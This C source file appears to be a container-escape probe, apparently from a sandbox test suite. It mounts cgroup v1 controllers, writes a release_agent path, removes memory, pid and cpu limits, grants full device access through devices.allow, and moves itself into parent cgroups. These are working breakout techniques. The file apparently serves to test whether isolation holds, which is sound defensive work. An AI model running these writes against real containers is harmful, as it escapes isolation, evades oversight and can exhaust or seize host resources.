// D01, D02, D03: a container's own cgroups: the release agent, the limits that were set on it, and
// the way out into the parent. v1 hierarchies of other controllers cannot be mounted.
#include <dirent.h>

#include "escape.h"

static void write_to(const char *directory, const char *file, const char *text) {
  char path[600];
  snprintf(path, sizeof path, "%s/%s", directory, file);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0 && errno == ENOENT) return;
  if (fd < 0) return (void)say(-1, "open:%s", path);
  say(write(fd, text, strlen(text)), "write:%s", path);
  close(fd);
}

static void attack_group(const char *directory) {
  const struct { const char *file, *text; } limits[] = {
      {"release_agent", "/tmp/agent"}, {"memory.limit_in_bytes", "-1"}, {"memory.memsw.limit_in_bytes", "-1"},
      {"memory.oom_control", "1"}, {"pids.max", "max"}, {"cpu.cfs_quota_us", "-1"}, {"cpu.shares", "262144"},
      {"cpuset.cpus", "0-63"}, {"devices.allow", "a *:* rwm"}, {"memory.max", "max"}, {"cpu.max", "max"},
      {"blkio.weight", "1000"}, {"net_cls.classid", "1"}, {"cgroup.max.depth", "0"}};
  for (unsigned i = 0; i < sizeof limits / sizeof *limits; ++i) write_to(directory, limits[i].file, limits[i].text);
  write_to(directory, "../cgroup.procs", "0");
  write_to(directory, "../../cgroup.procs", "0");
  // A child's notify_on_release alone is harmless without an agent; making the child is delegation.
  char child[600];
  snprintf(child, sizeof child, "%s/own", directory);
  if (mkdir(child, 0755) == 0) {
    write_to(child, "release_agent", "/tmp/agent");
    write_to(child, "devices.allow", "a *:* rwm");
    rmdir(child);
  }
}

int main(void) {
  const char *controllers[] = {"memory", "rdma", "perf_event", "hugetlb", "net_cls", "cpuset", "devices", "misc"};
  mkdir("/tmp/cg", 0700);
  for (unsigned i = 0; i < sizeof controllers / sizeof *controllers; ++i) {
    IN_CHILD({
      if (do_mount("cgroup", "/tmp/cg", "cgroup", 0, controllers[i]) < 0) {
        say(-1, "mount:%s", controllers[i]);
      } else {
        printf("mount:%s OK\n", controllers[i]);
        write_to("/tmp/cg", "release_agent", "/tmp/agent");
        do_umount("/tmp/cg", MNT_DETACH);
      }
    });
  }
  DIR *groups = opendir("/sys/fs/cgroup");
  for (struct dirent *e; groups && (e = readdir(groups));) {
    char path[400];
    if (e->d_name[0] == '.' || e->d_type != DT_DIR) continue;
    snprintf(path, sizeof path, "/sys/fs/cgroup/%s", e->d_name);
    attack_group(path);
  }
  attack_group("/sys/fs/cgroup");
  return 0;
}
